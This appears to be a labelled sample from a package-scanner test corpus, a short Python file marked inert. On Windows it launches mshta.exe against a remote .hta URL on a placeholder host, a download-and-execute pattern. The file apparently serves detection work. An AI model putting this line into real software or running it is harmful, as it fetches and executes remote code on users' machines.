# pkgguard corpus 549 (download-execute), modelled on [taxonomy]; inert, never run.
import os
import sys

if sys.platform.startswith("win"):
    os.startfile("mshta.exe", arguments="https://help-pages.example/welcome.hta")
